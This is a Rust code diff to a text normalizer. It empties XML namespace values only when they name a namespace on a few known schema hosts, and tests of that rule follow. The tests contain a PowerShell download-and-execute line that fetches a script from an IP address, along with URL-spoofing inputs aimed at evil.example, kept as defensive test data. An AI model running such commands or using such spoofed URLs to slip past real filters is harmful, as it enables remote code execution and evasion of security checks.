@@ -57,25 +57,41 @@ fn entity(text: &str) -> Option<(char, usize)> {
     Some((letter, end + 1))
 }
 
-/// Empties every `xmlns="…"` and `xmlns:x="…"` of a tag; `None` if there is none. What is called so elsewhere may be used for a URL.
+/// Empties every `xmlns="…"` and `xmlns:x="…"` that is the name of a namespace; `None` if there is none. What a script reads from there
+/// may be anything else, an address that it fetches from too.
 fn without_namespaces(text: &str) -> Option<String> {
     const NAME: &str = "xmlns";
     let mut out = String::new();
-    let (mut done, mut looked, mut in_a_tag) = (0, 0, false);
+    let mut done = 0;
     for (at, _) in text.match_indices(NAME) {
-        if let Some(mark) = text[looked..at].rfind(['<', '>']) {
-            in_a_tag = text[looked + mark..].starts_with('<');
-        }
-        looked = at;
-        if !in_a_tag || !text[..at].ends_with(char::is_whitespace) {
+        if !text[..at].ends_with(char::is_whitespace) {
             continue;
         }
-        if let Some(value) = value_of_an_attribute(text, at + NAME.len()) {
+        if let Some(value) = value_of_an_attribute(text, at + NAME.len())
+            && names_a_namespace(&text[value.clone()])
+        {
             out.push_str(&text[done..value.start]);
             done = value.end;
         }
     }
     (done > 0).then(|| out + &text[done..])
+}
+
+/// Says whether a URL is the name of a namespace, by those who give such names, and nothing but that: neither leads it elsewhere nor does
+/// another stand inside of it.
+fn names_a_namespace(url: &str) -> bool {
+    const OWNERS: [&str; 5] = [
+        "schemas.microsoft.com",
+        "schemas.openxmlformats.org",
+        "schemas.xmlsoap.org",
+        "schemas.dmtf.org",
+        "www.w3.org",
+    ];
+    let Some(place) = url.strip_prefix("http://").or_else(|| url.strip_prefix("https://")) else {
+        return false;
+    };
+    let (host, path) = place.split_once('/').unwrap_or((place, ""));
+    OWNERS.contains(&host) && path.chars().all(|c| c.is_ascii_alphanumeric() || "/-_.#".contains(c))
 }
 
 /// Where the value of an attribute stands whose name ends here, or goes on behind a colon. The name of a namespace has no blanks.
@@ -119,29 +135,36 @@ mod tests {
     }
 
     #[test]
-    fn names_of_namespaces_are_dropped_and_what_is_only_called_so_is_not() {
+    fn names_of_namespaces_are_dropped_and_what_else_is_called_so_is_not() {
         for (written, expected) in [
             (
-                r#"<Task version="1.2" xmlns="http://x/task">http://y"#,
+                r#"<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">http://y"#,
                 r#"<Task version="1.2" xmlns="">http://y"#,
             ),
             (
-                "<a\nxmlns:b = 'urn:x' c='http://d' xmlns='e'/>f",
+                "<a\nxmlns:b = 'https://www.w3.org/2000/09/xmldsig#' c='http://d' xmlns='http://www.w3.org'/>f",
                 "<a\nxmlns:b = '' c='http://d' xmlns=''/>f",
             ),
-            (r#""<a xmlns=\"http://x\">""#, r#""<a xmlns=\"\">""#),
-            ("&lt;a xmlns=&quot;http://x&quot;&gt;", r#"<a xmlns="">"#),
+            (r#""<a xmlns=\"http://www.w3.org/\">""#, r#""<a xmlns=\"\">""#),
+            ("&lt;a xmlns=&quot;http://www.w3.org/&quot;&gt;", r#"<a xmlns="">"#),
+            (r#"<a b="x>y" xmlns="http://www.w3.org/x">"#, r#"<a b="x>y" xmlns="">"#),
         ] {
             assert_eq!(plain(written), expected, "{written}");
         }
         for kept in [
-            "xmlns='http://x'; iwr $xmlns",
-            "<a> xmlns='http://x'",
-            "<$xmlns='http://x'",
-            "<a xmlnsb='http://x'",
-            "<a xmlns='http://x",
-            "<a xmlns='iwr http://x'>",
-            "<a xmlns=http://x>",
+            "$x=[xml]\"<a xmlns='http://203.0.113.66/a.ps1'/>\"; iex (iwr $x.a.xmlns)",
+            "<a xmlns='http://www.w3.org.evil.example/a'>",
+            "<a xmlns='http://www.w3.org@evil.example/a'>",
+            "<a xmlns='http://www.w3.org:80@evil.example/a'>",
+            "<a xmlns='http://evil.example/www.w3.org/'>",
+            "<a xmlns='http://www.w3.org?/x'>",
+            "<a xmlns='http://www.w3.org/http://evil.example/a'>",
+            "<a xmlns='http://www.w3.org/?to=http%3A%2F%2Fevil.example'>",
+            "<a xmlns='urn:x' xmlns:b='c'>",
+            "<a xmlnsb='http://www.w3.org/x'",
+            "<a xmlns='http://www.w3.org/x",
+            "<a xmlns='http://www.w3.org/ x'>",
+            "<a xmlns=http://www.w3.org/x>",
             "<a xmlns",
         ] {
             assert_eq!(plain(kept), kept);
